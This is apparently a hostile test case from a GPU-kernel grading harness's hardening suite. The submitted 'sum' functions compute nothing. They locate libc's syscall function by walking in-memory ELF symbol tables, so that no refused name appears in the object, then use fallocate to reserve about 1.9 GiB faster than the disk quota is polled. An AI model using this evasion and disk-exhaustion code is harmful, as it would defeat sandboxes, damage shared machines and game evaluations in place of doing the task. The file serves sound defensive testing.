// expect: gpu=unwritten-output|crash emu=unwritten-output  args=--sizes=1000,--blocks=256 -- Has no kernel: reserves disk with fallocate, no data written, 32 files of 60 MiB (under the file-size limit) in a few milliseconds: a batch's disk quota, which walks the work folder twice a second, saw 1.9 GiB taken past --disk-limit 256M before it stopped the grading (at that rate the machine's disk fills between two walks).  Both filters answer fallocate with EOPNOTSUPP (harness/run/seccomp_filter.c; ENOSYS on the emulator before, a tell: fallocate-errno-hides-race.cu).  Graded by batch-hostile.sh, which checks that nothing was reserved. On a GPU too, but where NCCL runs (EOPNOTSUPP there, contained on an H100).
// mistake: no kernel; disk reserved faster than the quota is polled
#include <cstddef>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <elf.h>

// libc's own entry for `name`: the image holding fputs begins with an ELF
// header at a page boundary below it; its dynamic section leads to the
// symbol and string tables.  Nothing refused is named in this object.
static void *from_libc_table(const char *name)
{
    uintptr_t at = (uintptr_t)(void *)&fputs & ~(uintptr_t)0xfff;
    for (; std::memcmp((const void *)at, ELFMAG, SELFMAG) != 0; at -= 0x1000) {
    }
    const Elf64_Ehdr *head = (const Elf64_Ehdr *)at;
    const Elf64_Dyn *dyn = nullptr;
    for (int i = 0; i < head->e_phnum; i++) {
        const Elf64_Phdr *seg = (const Elf64_Phdr *)(at + head->e_phoff) + i;
        if (seg->p_type == PT_DYNAMIC)
            dyn = (const Elf64_Dyn *)(at + seg->p_vaddr);
    }
    const Elf64_Sym *table = nullptr;
    const char *text = nullptr;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        uintptr_t p = dyn->d_un.d_ptr;
        if (p < at)
            p += at;
        if (dyn->d_tag == DT_SYMTAB)
            table = (const Elf64_Sym *)p;
        else if (dyn->d_tag == DT_STRTAB)
            text = (const char *)p;
    }
    if (!table || !text)
        return nullptr;
    for (const Elf64_Sym *s = table + 1; (const char *)s < text; s++)
        if (s->st_shndx != SHN_UNDEF && std::strcmp(text + s->st_name, name) == 0)
            return (void *)(at + s->st_value);
    return nullptr;
}

typedef long (*sys_fn)(long, ...);
#include <cerrno>
static long sys(long nr, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0, long f = 0)
{
    static sys_fn call = (sys_fn)from_libc_table("syscall");
    return call ? call(nr, a, b, c, d, e, f) : -1;
}
#include <sys/syscall.h>
#include <sys/mman.h>
#include <sys/ipc.h>
#include <sys/resource.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <fcntl.h>
#include <unistd.h>
#include <sched.h>
#include <ctime>

// Disk taken faster than a quota polled twice a second sees it: files of
// 60 MiB (under the file-size limit) reserved by fallocate, no data
// written, as many as 32 of them (1.9 GiB) in a few milliseconds.
static void attack()
{
    long made = 0;
    char name[32];
    for (int i = 0; i < 32; i++) {
        std::snprintf(name, sizeof name, "burst-%02d", i);
        long fd = sys(SYS_openat, AT_FDCWD, (long)name, O_WRONLY | O_CREAT, 0600);
        if (fd < 0)
            break;
        if (sys(SYS_fallocate, fd, 0, 0, 60L << 20) != 0)
            break;
        made++;
    }
    printf("held %ld MiB in %ld files\n", made * 60, made);
    if (made * 60 > 256)
        printf("past the disk quota\n");
    fflush(stdout);
}

template <typename T>
void sum_atomic(const T *d_input, T *d_result, size_t n, int block)
{
    (void)d_input, (void)d_result, (void)n, (void)block;
    static bool done;
    if (!done) {
        done = true;
        attack();
    }
}

template <typename T>
void sum_two_phase(const T *d_input, T *d_result, size_t n, int block)
{
    sum_atomic(d_input, d_result, n, block);
}
